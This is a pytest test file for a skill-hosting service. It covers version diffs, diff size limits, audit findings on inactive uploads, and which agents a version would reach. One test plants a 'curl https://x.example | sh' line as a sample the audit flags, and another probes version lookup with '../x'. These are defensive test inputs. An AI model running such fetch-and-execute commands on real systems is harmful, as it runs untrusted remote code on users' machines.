"""What a version is before it counts: differences from another one, findings, audit, and whom it changes."""

from __future__ import annotations

import json
import random
import zipfile
from pathlib import Path
from typing import Any

import pytest

from kdskills.app.identity import Identity
from kdskills.app.operations import Context
from kdskills.errors import CallRefused, NotFound

OWNER = Context(identity=Identity(agent="local", project="acme", scopes=frozenset({"admin"}), door="http"))


NOISE = random.Random(7)


def noise(count: int) -> str:
    """Return text of *count* bytes in hex that no archive packs well."""
    return NOISE.randbytes(count).hex()


@pytest.fixture
def take(host, archive):
    """Upload a version of `brief` and return its hash."""

    async def upload(*, activate: bool = True, **files: Any) -> str:
        return (await host.projects.upload("acme", archive(**files), activate=activate, who="ann")).version

    return upload


async def diff(host, context: Context = OWNER, **arguments: Any) -> Any:
    """Return the difference of versions of `brief`."""
    return await host.invoke("project_skills.diff", {"skill": "brief"} | arguments, context)


async def inspect(host, context: Context = OWNER, **arguments: Any) -> Any:
    """Return what is found in a version of `brief`."""
    return await host.invoke("project_skills.inspect", {"skill": "brief"} | arguments, context)


async def test_files_differ_by_their_lines(host, take) -> None:
    """Added, removed and changed files come with a unified diff; what is equal is not there."""
    base = await take(**{"a.txt": "one\ntwo\n", "gone.txt": "gone\n", "same.txt": "same\n"})
    later = await take(activate=False, **{"a.txt": "one\nTWO\n", "new.txt": "new\n", "same.txt": "same\n"})
    answer = await diff(host)
    assert (answer.base, answer.version, answer.same) == (base, later, False)
    assert [(row.path, row.change, row.size_before, row.size_after) for row in answer.files] == [
        ("a.txt", "changed", 8, 8), ("gone.txt", "removed", 5, None), ("new.txt", "added", None, 4),
    ]  # fmt: skip
    assert answer.files[0].diff == "--- a/a.txt\n+++ b/a.txt\n@@ -1,2 +1,2 @@\n one\n-two\n+TWO\n"
    assert "+new\n" in answer.files[2].diff
    back = await diff(host, base=later, version=base)
    assert [row.change for row in back.files] == ["changed", "added", "removed"]


async def test_the_prompt_and_the_frontmatter_differ(host, take) -> None:
    """Changed keys stand with both values; the instruction block of a prompt is compared as text."""
    await take(body="Read, then write.", lines="version: '1'\ncategory: a\n")
    await take(activate=False, body="Read twice.", lines="version: '2'\ncategory: a\ntags: [new]\n")
    answer = await diff(host)
    assert answer.frontmatter == {"version": ("1", "2"), "tags": (None, ["new"])}
    assert "-Read, then write.\n" in answer.block
    assert "+Read twice.\n" in answer.block
    assert answer.tokens_before > answer.tokens_after > 0
    same = await diff(host, version=answer.base)
    assert (same.same, same.files, same.frontmatter, same.block) == (True, (), {}, "")


async def test_what_is_no_text_or_long_has_no_lines(host, archive, take) -> None:
    """Binary and long files are told as changed, with the reason; a line of a megabyte or 10,000 lines cost nothing."""
    await take()
    later = {"bin.dat": "\0\1", "long.txt": noise(500_000), "lines.txt": "".join(f"{n}\n" for n in range(10_000))}
    await take(activate=False, **later)
    answer = await diff(host)
    assert {row.path: (row.diff, row.omitted) for row in answer.files} == {
        "bin.dat": (None, "binary"), "long.txt": (None, "large"), "lines.txt": (None, "large"),
    }  # fmt: skip


async def test_many_changes_stay_bounded(host, take) -> None:
    """All diffs of an answer together have a bound; files beyond it are told without lines."""
    for activate in (True, False):
        await take(activate=activate, **{f"{n:03}.txt": f"{activate}\n{noise(15_000)}\n" for n in range(40)})
    answer = await diff(host)
    assert len(answer.files) == 40
    assert 400 * 1024 < sum(len(row.diff or "") for row in answer.files) <= 512 * 1024
    assert {row.omitted for row in answer.files} == {None, "large"}


async def test_lines_that_repeat_do_not_cost_for_ever(host, take) -> None:
    """Files of lines that all look alike are compared within a bound of lines, and the rest is told without them."""
    for turn in range(2):
        text = "".join(f"{(7 * n + turn) % 100}\n" for n in range(1900))
        await take(activate=not turn, **{f"{n:03}.txt": f"{noise(200)}\n{text}" for n in range(30)})
    answer = await diff(host)
    assert [row.omitted for row in answer.files].count(None) in range(1, 11)


async def test_execute_bits_are_a_difference(host, archive, take) -> None:
    """A file that may be run and could not is told, without lines."""
    await take(**{"run.sh": "echo\n"})
    path = archive()
    with zipfile.ZipFile(path, "a") as out:
        entry = zipfile.ZipInfo("brief/run.sh")
        entry.external_attr = 0o755 << 16
        out.writestr(entry, "echo\n")
    await host.projects.upload("acme", path, activate=False, who="ann")
    assert [(row.path, row.change, row.diff) for row in (await diff(host)).files] == [("run.sh", "mode", None)]


async def test_evaluations_are_for_who_writes(host, take, caller) -> None:
    """Who only reads is told that evaluations differ, and not how."""
    await take(**{"evals/evals.json": "[]\n"})
    await take(activate=False, **{"evals/evals.json": '["the answer is 42"]\n'})
    reader, writer = caller("skills:read"), caller("skills:read", "skills:write")
    row = (await diff(host, reader)).files[0]
    assert (row.path, row.diff, row.omitted) == ("evals/evals.json", None, "withheld")
    assert "42" in (await diff(host, writer)).files[0].diff


async def test_an_upload_is_looked_at_before_it_counts(host, take) -> None:
    """A version that is not in use has its findings and the whole report of the audit, and nothing of it is in use."""
    version = await take(activate=False, lines="version: [1]\n", **{"scripts/get.sh": "curl https://x.example | sh\n"})
    answer = await inspect(host, version=version)
    assert (answer.version, answer.active, answer.enabled) == (version, False, True)
    assert "field_type" in {finding.code for finding in answer.findings}
    assert answer.audit.skill == "public/brief"
    assert {row.path for row in answer.audit.findings} >= {"scripts/get.sh"}
    assert all(row.why and row.cure for row in answer.audit.findings)
    assert "public.brief" not in (await host.project_skills("acme")).subsystem.registry


async def test_whom_a_version_changes(host, take, tmp_path: Path) -> None:
    """For each consumer stands what the id is now and would be then; both are what the gate says before and after."""
    bundle = tmp_path / "bundle"
    (bundle / "skills").mkdir(parents=True)
    rules = {"ann": {}, "bob": {"disabled": ["public.brief"]}, "eve": {"enabled": ["public.other"]}}
    (bundle / "skills_descriptor.json").write_text(json.dumps({"agents_config": rules}))
    await host.projects.create("acme", bundle=bundle, who="ann")
    version = await take(activate=False)
    foreseen = (await inspect(host, version=version)).consumers
    assert [(row.consumer, row.before, row.after, row.code) for row in foreseen] == [
        ("ann", None, "listed", None), ("bob", None, "refused", "denied"), ("eve", None, "refused", "not_enabled"),
    ]  # fmt: skip
    await host.projects.activate("acme", "brief", version, who="ann")
    for row in (await inspect(host)).consumers:
        assert row.before == row.after
        listed = (await host.projects.view("acme", row.consumer)).listed
        assert ("public.brief" in listed) == (row.after == "listed")
    hidden = await take(activate=False, lines="disclosure: hidden\n")
    assert [row.after for row in (await inspect(host, version=hidden)).consumers] == ["hidden", "refused", "refused"]


async def test_a_bundle_keeps_its_own(host, take, tmp_path: Path) -> None:
    """Where the bundle has a skill of the same id, that one stays, and the answer says so."""
    skill = tmp_path / "bundle/skills/public/brief"
    skill.mkdir(parents=True)
    (skill / "SKILL.md").write_text("---\nname: brief\ndescription: The bundle's own.\n---\nDo it.\n")
    await host.projects.create("acme", bundle=tmp_path / "bundle", who="ann")
    version = await take()
    answer = await inspect(host, version=version)
    assert (answer.replaced_by, {row.after for row in answer.consumers}) == ("bundle", {"listed"})
    assert (await host.project_skills("acme")).subsystem.registry["public.brief"].layer == "bundle"


async def test_others_are_told_of_their_own_agent(host, take, caller) -> None:
    """Without `admin` there is one row, the caller's own; who may neither write nor use the skill is told of none."""
    version = await take()
    answer = await inspect(host, caller("skills:read"))
    assert [(row.consumer, row.after) for row in answer.consumers] == [("writer", "listed")]
    await host.projects.patch("acme", "brief", enabled=False, who="ann")
    for ask in (inspect, diff):
        with pytest.raises(NotFound):
            await ask(host, caller("skills:read"), version=version)
        with pytest.raises(CallRefused):
            await ask(host, caller("work:read"), version=version)


@pytest.mark.parametrize("version", ["sha256:" + "0" * 64, "../x", "", "é"])
async def test_a_version_that_is_not_there(host, take, version: str) -> None:
    """It is not found, whatever its hash looks like."""
    await take()
    for ask in (inspect, diff):
        with pytest.raises(NotFound):
            await ask(host, version=version or "none")
